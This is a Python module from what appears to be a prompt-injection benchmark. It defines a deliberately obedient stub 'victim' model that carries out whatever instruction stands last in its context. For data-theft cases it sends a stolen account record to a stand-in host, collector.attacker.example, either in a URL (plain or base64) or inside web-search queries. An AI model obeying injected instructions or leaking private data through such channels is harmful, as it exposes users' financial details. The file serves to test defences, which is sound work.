"""A model that does whatever the last instruction in its context says."""

import json
import re
from collections.abc import AsyncGenerator, Callable, Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum
from typing import Any, Final
from urllib.parse import quote
from uuid import uuid4

from bench.gate.cases import Case, Harm
from bench.gate.world import FETCH, SEARCH, encoded
from models.payloads.chat import ChatMessage, ChatPart, ChatRequest, Cursor, Reply, ToolCall, Usage
from models.payloads.chat import Role as ChatRole
from models.payloads.turn import Finish

ATTACKER: Final = "https://collector.attacker.example"
_RECORD = re.compile(r"account number \d+ with a balance of \d+ dollars")


class Way(StrEnum):
    """How what was stolen is carried away."""

    TOOL = "the case's own tool"
    ADDRESS = "a page's address"
    ENCODED = "a page's address, in base64"
    SEARCH = "a web search"
    ENCODED_SEARCH = "a web search, in base64"


@dataclass(frozen=True, slots=True)
class Plan:
    """What obeying one instruction takes: calls, one after the other."""

    calls: Sequence[tuple[str, Callable[[str], dict[str, Any]]]]


class Victim:
    """Fills the ChatModel port. It judges nothing: the instruction that stands last is obeyed to
    its end, and with nothing left to obey it answers with all that it has heard."""

    name = "obedient-victim"
    resumable = False

    def __init__(self, cases: Sequence[Case], way: Way = Way.TOOL) -> None:
        self._plans: Mapping[str, Plan] = {
            **{case.asked: _asked(case) for case in cases},
            **{case.attack: _attack(case, way) for case in cases},
        }

    async def stream(
        self,
        request: ChatRequest,
        resume: Cursor | None = None,  # noqa: ARG002 -- it keeps no responses
    ) -> AsyncGenerator[ChatPart, None]:
        text, call = self._next(request.messages)
        usage = Usage(input_tokens=100, output_tokens=10)
        if call is None:
            yield Reply(text=text, usage=usage, model=self.name)
            return
        yield Reply(text="", calls=(call,), finish=Finish.TOOL_CALLS, usage=usage, model=self.name)

    async def cancel(self, cursor: Cursor) -> None:
        """There is nothing to cancel."""

    def _next(self, messages: Sequence[ChatMessage]) -> tuple[str, ToolCall | None]:
        heard = [message for message in messages if message.role is not ChatRole.ASSISTANT]
        context = "\n".join(message.content for message in heard)
        made = [call.name for message in messages for call in message.calls]
        told = sorted((context.rfind(text), text) for text in self._plans if text in context)
        for _, text in reversed(told):
            for name, arguments in self._plans[text].calls:
                if name not in made:
                    written = json.dumps({"parameters": arguments(context)})
                    return "", ToolCall(call_id=uuid4().hex, name=name, arguments=written)
        return f"Here is what I found.\n{context[-20_000:]}", None


def _asked(case: Case) -> Plan:
    return Plan([(case.tool, lambda _: case.parameters)])


def _attack(case: Case, way: Way) -> Plan:
    steps: list[tuple[str, Callable[[str], dict[str, Any]]]] = [
        (name, _obeying(case)) for name in case.attack_tools
    ]
    if case.harm is Harm.STEALING and way is not Way.TOOL:
        steps[-1] = _carrying(way)
    return Plan(steps)


def _obeying(case: Case) -> Callable[[str], dict[str, Any]]:
    return lambda context: {"request": case.attack, "data": _stolen(context)}


def _carrying(way: Way) -> tuple[str, Callable[[str], dict[str, Any]]]:
    match way:
        case Way.ADDRESS:
            return FETCH, lambda context: {"url": f"{ATTACKER}/?d={quote(_stolen(context))}"}
        case Way.ENCODED:
            return FETCH, lambda context: {"url": f"{ATTACKER}/{encoded(_stolen(context))}"}
        case Way.SEARCH:
            return SEARCH, lambda context: {"query": f"who has {_stolen(context)}"}
        case _:
            return SEARCH, lambda context: {"query": f"who is {encoded(_stolen(context))}"}


def _stolen(context: str) -> str:
    """The last private thing that a tool has told."""
    found = _RECORD.findall(context)
    return found[-1] if found else ""
